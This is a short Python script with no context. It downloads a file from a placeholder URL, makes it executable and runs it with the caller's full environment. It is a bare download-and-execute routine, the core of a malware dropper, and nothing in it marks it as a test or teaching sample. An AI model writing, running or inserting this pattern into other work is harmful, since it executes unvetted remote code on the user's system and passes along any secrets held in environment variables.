import os
import urllib.request

path, _ = urllib.request.urlretrieve("https://example.com/x")
os.chmod(path, 0o755)
os.posix_spawn(path, [path], dict(os.environ))
